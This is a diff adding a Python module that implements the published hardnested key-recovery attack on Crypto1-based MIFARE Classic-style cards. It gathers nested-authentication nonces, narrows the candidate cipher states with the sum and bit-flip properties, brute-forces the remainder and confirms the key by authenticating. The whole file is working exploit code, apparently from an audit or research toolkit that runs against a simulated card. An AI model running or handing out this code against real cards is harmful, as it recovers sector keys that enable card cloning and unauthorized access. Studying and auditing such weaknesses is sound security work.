@@ -1,0 +1,236 @@
+"""The hardnested attack (Meijer & Verdult, CCS 2015): a sector key of a card whose nonces cannot be predicted,
+from one known key, through nested authentications only (docs/research/hardnested.md).
+
+A nested authentication to the target sector answers the tag nonce encrypted, {nT}, with four encrypted parity
+bits. The initial cipher state of that authentication is the target key itself, split into its odd and even
+halves (``cardsim.crypto1.Crypto1``). Each nonce gives, for byte k, the bit
+``a_k = parity(keystream byte k) ^ keystream bit 8k+8``, read off {nT} and its parity bits.
+
+- Sum property: over the 256 values of the first encrypted byte, ``Sum(a0) = p(16 - q) + (16 - p)q``, where p
+  depends only on the 20 low bits of the odd half and q on those of the even half (the fed bits of the first
+  byte range over all 256 values whatever the state; the odd half meets the odd-numbered ones, the even half the
+  even-numbered ones). Collecting nonces until every first byte has been seen makes Sum(a0) exact, and only
+  (p, q) pairs that give it are kept.
+- Bit-flip property: flipping the last bit of the first encrypted byte flips only the last fed bit of that byte,
+  which reaches only keystream bit 8, through the filter's first input. Whether the filter can feel that input
+  depends only on the 16 low bits of the odd half; whether any such pair of first bytes shows different a0
+  bits tells which (exact once every first byte has been seen).
+- What is left, odd x even, is brute-forced in C (``audit._hardnested``, both cores): a state survives when it
+  explains every parity bit of the collected nonces; the survivor is checked by authenticating.
+
+``known_key_bits = (mask, value)`` fixes key bits (a test-size search: CI fixes most of the key).
+"""
+
+from __future__ import annotations
+
+import math
+import os
+import time
+from collections.abc import Callable
+
+import numpy as np
+
+from audit._hardnested import brute_force, half_sums
+from audit.m1_attacks import AttackFailed, _nested_nonce, try_key
+from cardsim.crypto1 import FA, FB, FC, MASK24, Crypto1
+from terminals.m1 import FrameSlot, M1Chip, M1Error
+
+BRUTE_NONCES = 24  # 96 parity bits: a wrong 48-bit state passes them with chance 2^-96
+MAX_NONCES = 20_000  # ~1,600 show every first byte; far more means the nonces are not random
+FLIP = 0x80  # the last bit of the first byte in cipher order (bytes LSB first)
+CHUNK_SECONDS = 1.0  # one brute-force call between progress lines and budget checks
+
+Progress = Callable[[str], None]
+
+
+def _a_bits(enc: int, parities: tuple[int, ...]) -> int:
+    """Bit k: parity(keystream byte k) ^ keystream bit 8k+8, from {nT} and its encrypted parity bits (each
+    parity bit is the odd parity of the plain byte, encrypted with the keystream bit after that byte)."""
+    bits = 0
+    for k in range(4):
+        byte = (enc >> (24 - 8 * k)) & 0xFF
+        bits |= (parities[k] ^ 1 ^ (byte.bit_count() & 1)) << k
+    return bits
+
+
+def _half_values(mask: int, value: int) -> np.ndarray:
+    """Every 24-bit half that has ``value`` at the bits of ``mask``, as uint32 (built from two tables of the low
+    and the high free bits, one pass over the result: the full-size list is 2^24 long)."""
+    free = [bit for bit in range(24) if not mask >> bit & 1]
+    low, high = free[: len(free) // 2], free[len(free) // 2 :]
+
+    def spread(bits: list[int]) -> np.ndarray:
+        count = np.arange(1 << len(bits), dtype=np.uint32)
+        out = np.zeros_like(count)
+        for j, bit in enumerate(bits):
+            out |= ((count >> np.uint32(j)) & np.uint32(1)) << np.uint32(bit)
+        return out
+
+    halves: np.ndarray = (np.uint32(value) | spread(high)[:, None] | spread(low)[None, :]).ravel()
+    return halves
+
+
+def _filter_feels_first_input(odd: np.ndarray) -> np.ndarray:
+    """Per odd half: whether keystream bit 8 depends on the last fed bit of byte 0 for some fed bits, i.e. fc
+    differs with its first input while its other four come from the odd half's 16 low bits."""
+    low = np.arange(1 << 16, dtype=np.uint32)
+    nibble = [(low >> np.uint32(4 * i)) & np.uint32(0xF) for i in range(4)]
+    rest = ((FA >> nibble[0]) & 1) << 3 | ((FB >> nibble[1]) & 1) << 2 | ((FB >> nibble[2]) & 1) << 1
+    rest |= (FA >> nibble[3]) & 1
+    table = ((FC >> rest) ^ (FC >> (rest | 16))) & 1 == 1
+    feels: np.ndarray = table[odd & np.uint32(0xFFFF)]
+    return feels
+
+
+class NestedNonces:
+    """Nested nonces of one target sector: the a0 bit of each first encrypted byte seen, and the first
+    ``BRUTE_NONCES`` distinct nonces with their a bits, which the brute force checks."""
+
+    def __init__(self) -> None:
+        self.count = 0
+        self.a0: dict[int, int] = {}
+        self.nonces: dict[int, int] = {}  # {nT} -> a bits
+
+    def add(self, enc: int, parities: tuple[int, ...]) -> None:
+        """One encrypted nonce and its four encrypted parity bits; AttackFailed when a first byte comes with
+        both a0 readings (for one key the bit is a function of the byte: the frames are not clean)."""
+        a = _a_bits(enc, parities)
+        first = enc >> 24
+        if self.a0.get(first, a & 1) != a & 1:
+            raise AttackFailed(f"first byte {first:02X} came with both parity readings: frames are not clean")
+        self.count += 1
+        self.a0[first] = a & 1
+        if len(self.nonces) < BRUTE_NONCES:
+            self.nonces[enc] = a
+
+    def sum_a0(self) -> int:
+        """Sum(a0): exact once every first byte has been seen."""
+        return sum(self.a0.values())
+
+    def flip_differs(self) -> bool:
+        """Whether some pair of first bytes that differ in the flip bit gave different a0 bits."""
+        return any(self.a0[v] != self.a0[v ^ FLIP] for v in self.a0 if v ^ FLIP in self.a0)
+
+    def checks(self, uid: int) -> tuple[bytes, bytes]:
+        """The brute force's inputs: uid ^ {nT} per nonce (native uint32) and its a bits (a byte each)."""
+        return np.array([uid ^ enc for enc in self.nonces], dtype=np.uint32).tobytes(), bytes(self.nonces.values())
+
+
+def collect_nested_nonces(
+    chip: M1Chip,
+    uid: int,
+    known: tuple[int, int, int],
+    target: tuple[int, int],
+    deadline: float | None = None,
+    progress: Progress = lambda _: None,
+) -> NestedNonces:
+    """Nested authentications to ``target`` = (block, key type) from ``known`` = (block, key, key type) until
+    every first encrypted byte has been seen (~1,600 on average); ``deadline`` is a ``time.monotonic()``."""
+    nonces = NestedNonces()
+    while len(nonces.a0) < 256:
+        if deadline is not None and time.monotonic() > deadline:
+            raise AttackFailed(
+                f"budget ran out while collecting nonces: {nonces.count} nonces, {len(nonces.a0)} of 256 first "
+                "bytes seen"
+            )
+        if nonces.count >= MAX_NONCES or (nonces.count >= 256 and len(nonces.nonces) < 2):
+            raise AttackFailed(
+                f"{nonces.count} nonces show only {len(nonces.a0)} of 256 first bytes: the target's nonces "
+                "do not vary (a static-nonce card needs static nested)"
+            )
+        try:
+            _, enc, parities = _nested_nonce(chip, uid, known[0], known[1], known[2], target)
+        except M1Error as e:
+            raise AttackFailed(f"the known key does not open block {known[0]}: {e}") from e
+        nonces.add(enc, parities)
+        if nonces.count % 256 == 0:
+            progress(f"hardnested: {nonces.count} nonces, {len(nonces.a0)} of 256 first bytes seen")
+    progress(f"hardnested: {nonces.count} nonces collected, every first byte seen")
+    return nonces
+
+
+def _groups(halves: np.ndarray, counts: np.ndarray) -> dict[int, np.ndarray]:
+    """The halves by their sum-property count (p or q, read off their 20 low bits); empty groups left out."""
+    of = counts[halves & np.uint32(0xFFFFF)]
+    groups = {int(c): halves[of == c] for c in np.unique(of)}
+    return groups
+
+
+def candidate_states(
+    nonces: NestedNonces, known_key_bits: tuple[int, int] | None = None
+) -> list[tuple[np.ndarray, np.ndarray]]:
+    """(odd halves, even halves) lists whose products hold every initial state (the key) that the sum and
+    bit-flip properties of ``nonces`` allow and that has the bits ``known_key_bits`` = (mask, value) fixes.
+    The lists are shared between pairs (full size: ~130 MB in all)."""
+    mask, value = known_key_bits or (0, 0)
+    masks, values = Crypto1.from_key(mask), Crypto1.from_key(value)
+    odd = _half_values(masks.odd, values.odd)
+    odd = odd[_filter_feels_first_input(odd) == nonces.flip_differs()]
+    even = _half_values(masks.even, values.even)
+    p_table, q_table = (np.frombuffer(t, dtype=np.uint8) for t in half_sums())
+    odd_by_p, even_by_q = _groups(odd, p_table), _groups(even, q_table)
+    pairs = []
+    for p, odd_p in odd_by_p.items():
+        for q, even_q in even_by_q.items():
+            if p * (16 - q) + (16 - p) * q == nonces.sum_a0():
+                pairs.append((odd_p, even_q))
+    return pairs
+
+
+def hardnested_attack(
+    chip: M1Chip,
+    uid: int,
+    known: tuple[int, int, int],
+    target: tuple[int, int],
+    *,
+    max_seconds: float | None = None,
+    progress: Progress = lambda _: None,
+    known_key_bits: tuple[int, int] | None = None,
+) -> int:
+    """Recover the key of ``target`` = (block, 0x60|0x61) from ``known`` = (block, key, key type), on any card
+    (hardened or not) that answers nested authentications; raw frames only.
+
+    ``known_key_bits`` = (mask, value) fixes the key bits of ``mask`` (a search of test size);
+    ``max_seconds`` bounds collection and brute force, ``progress`` gets one line at each step. AttackFailed
+    says why it cannot run, or how far it got when the budget ran out.
+    """
+    start = time.monotonic()
+    deadline = None if max_seconds is None else start + max_seconds
+    if target[1] not in (0x60, 0x61) or not 0 <= target[0] < 64 or not 0 <= known[0] < 64:
+        raise AttackFailed(f"hardnested needs a block 0..63 and key type 60 or 61, not {target}")
+    if known_key_bits is not None and (known_key_bits[1] & ~known_key_bits[0] or known_key_bits[0] >> 48):
+        raise AttackFailed("known_key_bits: the value has bits outside the 48-bit mask")
+    nonces = collect_nested_nonces(chip, uid, known, target, deadline, progress)
+    pairs = candidate_states(nonces, known_key_bits)
+    space = sum(len(o) * len(e) for o, e in pairs)
+    if space == 0:
+        raise AttackFailed("no state fits the nonces (the known key bits are wrong?)")
+    progress(
+        f"hardnested: Sum(a0) = {nonces.sum_a0()}, bit flip {'differs' if nonces.flip_differs() else 'never differs'}"
+        f": 2^{math.log2(space):.1f} states left of 2^{48 - (known_key_bits or (0, 0))[0].bit_count()}"
+    )
+    fed, targets = nonces.checks(uid)
+    threads = len(os.sched_getaffinity(0))
+    done, rate, started = 0, 0.0, time.monotonic()
+    for odd, even in pairs:
+        step = max(1, min(len(odd), int((rate or 2e7) * CHUNK_SECONDS) // len(even)))
+        for i in range(0, len(odd), step):
+            if deadline is not None and time.monotonic() > deadline:
+                left = (space - done) / rate if rate else float("inf")
+                raise AttackFailed(
+                    f"budget of {max_seconds} s ran out: brute-forced {done / space:.1%} of 2^{math.log2(space):.1f} "
+                    f"states at {rate / 1e6:.1f} M/s, ~{left:.0f} s more needed"
+                )
+            chunk = odd[i : i + step]
+            for state in brute_force(chunk.tobytes(), even.tobytes(), fed, targets, threads):
+                key = int(Crypto1(state >> 24, state & MASK24).lfsr())
+                if try_key(FrameSlot(chip), target[0], key, target[1]):
+                    progress(f"hardnested: key {key:012X} after {time.monotonic() - start:.1f} s")
+                    return key
+            done += len(chunk) * len(even)
+            rate = done / max(time.monotonic() - started, 1e-9)
+            progress(
+                f"hardnested: brute force {done / space:.1%} of 2^{math.log2(space):.1f}, {rate / 1e6:.1f} M/s, "
+                f"ETA {(space - done) / rate:.0f} s"
+            )
+    raise AttackFailed(f"all 2^{math.log2(space):.1f} states tried, none authenticates")
